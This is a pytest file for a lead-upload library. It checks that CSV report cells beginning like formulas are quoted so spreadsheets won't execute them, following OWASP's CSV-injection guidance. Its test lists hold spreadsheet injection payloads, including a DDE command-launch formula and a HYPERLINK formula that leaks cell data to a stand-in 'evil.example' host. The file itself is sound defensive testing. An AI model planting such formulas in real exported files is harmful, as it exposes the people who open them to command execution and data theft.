"""Reports written for people are safe to open in a spreadsheet (issue 19, item 10).

A lead field from a bought list that begins like a formula must reach the report file quoted
(OWASP's CSV-injection rule), while SmartLead gets exactly the value given.
"""

from __future__ import annotations

import csv
import random

import numpy as np
import pandas as pd
import pytest

from smartlead_nb.frames.report_cells import (report_cell, report_frame, unquote_cell,
                                              unquote_frame)
from smartlead_nb import upload_leads

from ..helpers import sent

# Text a spreadsheet would run (or read as a formula): OWASP's characters first, then after
# blanks, the fullwidth forms, and control characters as the first character.
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
    "+1+1", "+44 20 7946 0958", "-2+3", "-5", "@SUM(A1:A9)", "=", "+", "-", "@",
    "\t=1+1", "\tplain after a tab", "\r=1+1", "\rplain after a CR", "\n=1", "\x00=1",
    " =1+1", "   @SUM(A1)", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u3000+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
    "'=1+1", "''=1+1", "' =1+1",            # already quoted once: quoted once more
]
# Text that is no formula anywhere: left exactly as it is.
PLAIN = ["Ana", "ana@example.com", "a=b", "1+1", "5-3", "x@y", "'quoted text", "'", "",
         "O'Brien", "Mañana", "例子", "  spaced", "line\nbreak", "a\t=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert report_cell(text) == "'" + text
    assert unquote_cell(report_cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_exactly_as_it_is(text):
    assert report_cell(text) == text
    assert unquote_cell(text) == text


@pytest.mark.parametrize("value", [-5, -2.5, np.int64(-7), np.float64(-0.5), True, None,
                                   np.nan, pd.NA, pd.Timestamp("2025-01-06")])
def test_values_that_are_not_text_are_not_touched(value):
    """A number written as a number is not a formula (OWASP's rule is about text cells)."""
    assert report_cell(value) is value


def test_quoting_and_unquoting_lose_nothing():
    rnd = random.Random(11)
    alphabet = ["=", "+", "-", "@", "'", "\t", "\r", "\n", " ", "\u00a0", "\uff1d", "a", "1"]
    for _ in range(20000):
        text = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 6)))
        written = report_cell(text)
        assert unquote_cell(written) == text, repr(text)
        assert written in (text, "'" + text)
        # What a spreadsheet sees first is no control character, and once blanks are
        # skipped, no formula sign.
        assert written[:1] not in ("\t", "\r", "\n")
        assert written.lstrip(" \t\r\n\u00a0")[:1] not in ("=", "+", "-", "@", "\uff1d")


def test_a_frame_keeps_its_numbers_and_quotes_its_text_index_included():
    frame = pd.DataFrame({"name": ["=1+1", "Ana", None], "amount": [-5, 3, 0],
                          "share": [-0.5, 0.1, np.nan]},
                         index=pd.Index(["@row", "r2", "-3"], name="row"))
    safe = report_frame(frame)
    assert safe["name"].tolist()[:2] == ["'=1+1", "Ana"] and safe["name"].isna().tolist()[2]
    assert safe["amount"].tolist() == [-5, 3, 0] and safe["amount"].dtype == frame["amount"].dtype
    assert safe["share"].tolist()[:2] == [-0.5, 0.1]
    assert safe.index.tolist() == ["'@row", "r2", "'-3"]
    pd.testing.assert_frame_equal(unquote_frame(safe), frame)
    assert frame["name"].tolist()[0] == "=1+1"             # the input is not changed


# --- the upload report ----------------------------------------------------------------------
# Valid addresses (= + - are allowed before the @) whose cells begin like formulas, and
# invalid ones, which are reported with the value as given.
EMAILS = ["=cmd@example.com", "+1@example.com", "-x@example.com", "\t=tab@example.com",
          "plain@example.com", '=HYPERLINK("http://evil.example")', "@SUM(A1)", " =1+1"]
NAMES = ["=1+1", "+44 20 7946 0958", "@SUM(A1)", "-5", "Ana", "=2", "=3", "=4"]
LABELS = ["=row0", "+row1", "-2", "@row3", "row4", "\trow5", "\rrow6", "'=row7"]


def formula_cells(path) -> list[str]:
    """Every cell of a CSV file that a spreadsheet would read as a formula."""
    with open(path, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert cells, "empty report"
    return [c for c in cells if c[:1] in "\t\r\n" and c or
            c.lstrip(" \u00a0\u200b\ufeff")[:1] in ("=", "+", "-", "@")]


def test_the_upload_report_file_is_safe_and_smartlead_gets_the_values_as_given(
        client, sandbox, tmp_path):
    leads = pd.DataFrame({"email": EMAILS, "first_name": NAMES}, index=LABELS)
    cid = client.campaigns.create("Bought list")["id"]
    report = tmp_path / "report.csv"
    result = upload_leads(client, cid, leads, journal=False, progress=False,
                          report_path=report)
    # The file: no cell a spreadsheet would run; each hostile cell is the value quoted.
    assert formula_cells(report) == []
    with open(report, newline="", encoding="utf-8") as f:
        written = {row["row"]: row for row in csv.DictReader(f)}
    for label, email in zip(LABELS, EMAILS):
        assert written[report_cell(label)]["email"] == report_cell(email)
    # Read back, the rows are the values as given, as an upload without a file has them.
    rows = result.rows
    assert rows.index.tolist() == LABELS
    assert rows["email"].tolist() == EMAILS
    in_memory = upload_leads(client, client.campaigns.create("Same list")["id"], leads,
                             ignore_duplicate_leads_in_other_campaign=True, journal=False,
                             progress=False).rows
    pd.testing.assert_frame_equal(rows[["email", "outcome", "reason"]],
                                  in_memory[["email", "outcome", "reason"]], check_names=False)
    assert rows["outcome"].tolist()[:5] == ["uploaded"] * 5
    # SmartLead got every field byte for byte as given (emails trimmed, as always).
    posted = [lead for r in sent(sandbox, "POST", f"/campaigns/{cid}/leads")
              for lead in r["json"]["lead_list"]]
    assert [(lead["email"], lead["first_name"]) for lead in posted] == [
        (e.strip(), n) for e, n in zip(EMAILS[:5], NAMES[:5])]
    stored = client.leads.export(cid).set_index("email")["first_name"]
    assert [stored[e.strip().lower()] for e in EMAILS[:5]] == NAMES[:5]
